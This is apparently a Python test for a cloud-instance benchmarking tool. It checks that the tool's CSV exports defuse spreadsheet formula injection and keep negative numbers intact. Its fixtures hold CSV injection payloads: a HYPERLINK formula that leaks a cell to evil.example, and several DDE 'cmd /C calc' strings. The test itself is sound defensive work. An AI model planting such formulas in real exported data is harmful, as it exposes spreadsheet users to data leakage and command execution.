"""CSV opened in a spreadsheet: a text cell starting with =, +, -, @, tab or CR is a formula there
(OWASP's CSV injection), so instbench prefixes it with '.  Read back with Python's csv module:
`rank --format csv` with device names that are formulas, and `prices --format csv` with a cached
zone name that is one; numbers (a negative savings percentage) stay plain numbers.
Usage: rank_csv_injection.py INSTBENCH"""
import csv
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
# this area's helpers, then tests/lib (testlib) and tests/fakes
sys.path[:0] = [HERE] + [os.path.join(os.path.dirname(HERE), d) for d in ("lib", "fakes")]
import rank_fixtures as fx  # noqa: E402

BIN = sys.argv[1]
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")
from testlib import check, failures


def formula_cells(rows):
    """Cells a spreadsheet would evaluate: a trigger character first and not a plain number."""
    return [c for row in rows for c in row if c and c[0] in "=+-@\t\r" and not NUMBER.match(c)]


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
TYPES = ["g5.xlarge", "g5.12xlarge", "p4d.24xlarge", "g6.xlarge"]

with tempfile.TemporaryDirectory() as d:
    # rank: one result per type, each device name a formula.
    for i, (t, name) in enumerate(zip(TYPES, FORMULAS)):
        fx.write_json(os.path.join(d, "res", f"{i}.json"), fx.result(t, "us-east-1", 1, 1, name, 100.0 + i))
    prices = fx.prices_doc([fx.price_record(t, "us-east-1", 1.0 + i, {"us-east-1a": 0.4 + i / 10})
                            for i, t in enumerate(TYPES)])
    fx.write_json(os.path.join(d, "prices.json"), prices)
    rc, out, err = fx.run(BIN, [os.path.join(d, "res"), "--source", os.path.join(d, "prices.json"),
                                "--format", "csv"])
    check(rc == 0, f"rank csv: exit {rc}: {err}")
    rows = list(csv.reader(io.StringIO(out)))
    check(not formula_cells(rows), f"rank CSV cells a spreadsheet would run: {formula_cells(rows)}")
    if rows:
        col = rows[0].index("accelerator")
        shown = sorted(r[col] for r in rows[1:])
        # Every row twice (on-demand and spot); each name once prefixed, otherwise unchanged.
        check(shown == sorted("'" + f for f in FORMULAS for _ in range(2)), f"accelerator cells {shown}")

    # prices: a cached spot zone named like a formula; the snapshot's p5.48xlarge in ca-central-1
    # saves -62% on spot, a negative number that must stay a number.
    home = os.path.join(d, "home")
    cache = os.path.join(d, "cache")
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    rec = fx.price_record("g5.xlarge", "us-east-1", 1.006, {"=cmd|' /C calc'!A0": 0.41}, as_of=now, source="live")
    path = os.path.join(cache, "instbench", "prices", "us-east-1", "g5.xlarge.json")
    fx.write_json(path, dict(fx.prices_doc([rec]), generated_at=now))
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    env.update(HOME=home, XDG_CACHE_HOME=cache, AWS_EC2_METADATA_DISABLED="true",
               AWS_CONFIG_FILE=os.path.join(d, "none"), AWS_SHARED_CREDENTIALS_FILE=os.path.join(d, "none"))
    p = subprocess.run([BIN, "prices", "--instance-types", "g5.xlarge,p5.48xlarge", "--region",
                        "us-east-1,ca-central-1", "--format", "csv"], capture_output=True, text=True, env=env)
    check(p.returncode == 0, f"prices csv: exit {p.returncode}: {p.stderr}")
    rows = list(csv.reader(io.StringIO(p.stdout)))
    check(not formula_cells(rows), f"prices CSV cells a spreadsheet would run: {formula_cells(rows)}")
    if rows:
        head = rows[0]
        by_key = {(r[head.index("instance_type")], r[head.index("region")]): r for r in rows[1:]}
        p5 = by_key.get(("p5.48xlarge", "ca-central-1"))
        check(p5 is not None and p5[head.index("interruption_savings_pct")] == "-62",
              f"a negative saving is not a plain number: {p5}")

if failures:
    print(f"{len(failures)} failure(s)")
    sys.exit(1)
print("CSV injection: all checks passed")
